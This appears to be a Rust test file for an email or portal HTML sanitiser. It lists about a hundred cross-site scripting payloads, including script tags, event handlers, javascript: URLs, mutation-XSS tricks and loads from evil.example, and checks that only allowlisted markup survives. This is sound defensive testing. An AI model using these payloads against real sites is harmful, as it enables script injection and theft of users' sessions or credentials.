//! Hostile HTML: nothing that runs, loads, submits or styles may be left, whatever the browser makes of the rest.

use regex::Regex;

use crate::portal::html::sanitise;

/// Ways to run a script, load something, send a form, or be read otherwise than the sanitiser read it.
const PAYLOADS: &[&str] = &[
    // Scripts in every wrapping
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>//<!--\nalert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xss onclick=alert(1)>x</xss>",
    // Handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x",
    "<p style=\"x\" ONCLICK=alert(1)>x",
    "<a onclick=alert(1) href=https://ok.example>x</a>",
    // Addresses that run
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" \x01javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"cid:unknown@x\">",
    "<img src=\"CID:javascript:alert(1)\">",
    "<img srcset=\"https://evil.example/x 1x\" src=https://evil.example/y>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    // Frames, objects, documents
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Set-Cookie content=\"a=b\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=import href=//evil.example>",
    "<portal src=https://evil.example>",
    // Forms
    "<form action=https://evil.example><input name=code><button>Go</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<select><option>x</select>",
    "<textarea></textarea><script>alert(1)</script>",
    "<keygen autofocus onfocus=alert(1)>",
    // Styles
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0\">Enter your password</div>",
    "<p class=alert id=alert>x</p>",
    // SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,x#y\"></use></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    // Mutation: read once by us, differently by the browser
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mi><style><![CDATA[</style><img src onerror=alert(1)>]]>",
    "<p><svg><title><p title=\"</title><img src=x onerror=alert(1)>\"></svg>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><iframe onload=alert(1)>\"></noembed>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<table><td><svg><desc><td><title><script>alert(1)</script>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "<img alt=\"`><script>alert(1)</script>\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<b <script>alert(1)</script>0",
    "\u{feff}<script>alert(1)</script>",
    "<a\u{a0}href=javascript:alert(1)>x</a>",
    "</body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div><p>unclosed <b><i title='x",
];

const TAGS: &str = "a abbr b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em figcaption figure \
                    h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot \
                    th thead tr tt u ul var wbr";
const ATTRIBUTES: &str = "alt width height colspan rowspan align valign scope start dir lang title src";

/// Every `<` opens a known tag whose attributes are known and whose only address is a raster picture in place.
fn judge(output: &str) -> Result<(), String> {
    let tag = Regex::new(r#"<(/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"]*")*)>"#).unwrap();
    let attribute = Regex::new(r#" ([a-z]+)="([^"]*)""#).unwrap();
    let picture = Regex::new(r"^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*$").unwrap();
    for found in tag.captures_iter(output) {
        if !TAGS.split_whitespace().any(|known| known == &found[2]) {
            return Err(format!("tag {}", &found[2]));
        }
        for pair in attribute.captures_iter(&found[3]) {
            if !ATTRIBUTES.split_whitespace().any(|known| known == &pair[1]) {
                return Err(format!("attribute {}", &pair[1]));
            }
            if &pair[1] == "src" && !picture.is_match(&pair[2]) {
                return Err(format!("source {}", &pair[2]));
            }
        }
    }
    if tag.replace_all(output, "").contains('<') { Err("an opening bracket of no tag".into()) } else { Ok(()) }
}

fn clean(html: &str) -> String {
    sanitise(html, |id| (id == "logo@x").then(|| "data:image/png;base64,AAAA".to_owned())).html
}

#[test]
fn no_hostile_html_keeps_anything_that_runs_or_loads() {
    assert!(PAYLOADS.len() >= 60, "{}", PAYLOADS.len());
    for payload in PAYLOADS {
        for html in [
            (*payload).to_owned(),
            format!("<p>Dear Pat</p>{payload}<p>Regards</p>"),
            format!("<table><tr><td>{payload}</td></tr></table>"),
            format!("<div title=\"{payload}"),
            format!("<svg>{payload}"),
            format!("<math><mtext>{payload}"),
            format!("<!--{payload}"),
        ] {
            let once = clean(&html);
            judge(&once).unwrap_or_else(|what| panic!("{what} is left of {html:?}: {once:?}"));
            // Reading what is left a second time finds the same: no reading turns it into something else.
            assert_eq!(clean(&once), once, "{html:?}");
        }
    }
}

#[test]
fn pairs_of_payloads_do_not_undo_each_other() {
    for first in PAYLOADS {
        for second in PAYLOADS.iter().step_by(7) {
            let once = clean(&format!("{first}{second}"));
            judge(&once).unwrap_or_else(|what| panic!("{what} is left of {first:?}{second:?}: {once:?}"));
        }
    }
}

#[test]
fn the_judge_knows_what_is_forbidden() {
    for bad in [
        "<script>",
        "<p onclick=\"x\">",
        "<a href=\"x\">",
        "<img src=\"https://x\">",
        "<img src=\"data:image/svg+xml;base64,AA\">",
        "<b",
        "a < b",
        "<p style=\"x\">",
        "<svg>",
    ] {
        assert!(judge(bad).is_err(), "{bad}");
    }
    assert!(judge("<p dir=\"ltr\">x &lt; y</p><img src=\"data:image/png;base64,AAAA\" alt=\"\">").is_ok());
    assert_eq!(
        clean("<p>Dear <b>Pat</b></p><img src=\"cid:logo@x\">"),
        "<p>Dear <b>Pat</b></p><img src=\"data:image/png;base64,AAAA\">"
    );
}
